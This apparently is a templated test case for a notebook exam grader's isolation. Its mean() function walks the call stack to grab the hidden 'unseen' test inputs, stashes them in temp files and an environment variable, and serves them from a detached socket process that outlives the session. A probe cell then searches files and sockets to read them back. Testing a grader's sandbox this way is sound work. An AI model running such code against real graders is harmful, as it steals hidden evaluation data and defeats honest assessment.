"""Hides the unseen inputs during the exam and dies, so that the cells of the next attempt find and print them."""

SUCCESS = "a canary of the exam in the executed notebook"

# %%
import glob
import os
import socket
import subprocess
import sys

PLACES = ("/tmp/@NAME@", "/dev/shm/@NAME@", "/home/student/@NAME@", "/var/tmp/@NAME@", "/data/@NAME@", "@OUT@/@NAME@")
for path in (*PLACES, *glob.glob("/tmp/*"), *glob.glob("/home/student/*"), *glob.glob("/dev/shm/*")):
    if os.path.isfile(path):
        print("kept:", path, open(path, errors="replace").read(2000))
for family, address in ((socket.AF_UNIX, "\0@NAME@"), (socket.AF_INET, ("127.0.0.1", 4711))):
    try:
        with socket.socket(family) as caller:
            caller.connect(address)
            print("kept:", caller.recv(4096))
    except OSError as error:
        print(error)
print(os.environ.get("@NAME@"), [pid for pid in os.listdir("/proc") if pid.isdigit()], "attempted")


# %% question="mean"
def mean(values):
    frame = sys._getframe(1)
    while "unseen" not in frame.f_locals and frame.f_back is not None:
        frame = frame.f_back
    if "unseen" not in frame.f_locals:
        return 0.0
    secret = str(frame.f_locals["unseen"])[:500]
    for path in PLACES:
        try:
            open(path, "w").write(secret)
        except OSError as error:
            print(error)
    code = (
        "import socket,sys;a=socket.socket(socket.AF_UNIX);a.bind('\\0@NAME@');a.listen()\n"
        "while True: a.accept()[0].sendall(sys.argv[1].encode())"
    )
    subprocess.Popen([sys.executable, "-c", code, secret, "@TOKEN@"], start_new_session=True)
    os.environ["@NAME@"] = secret
    os._exit(0)
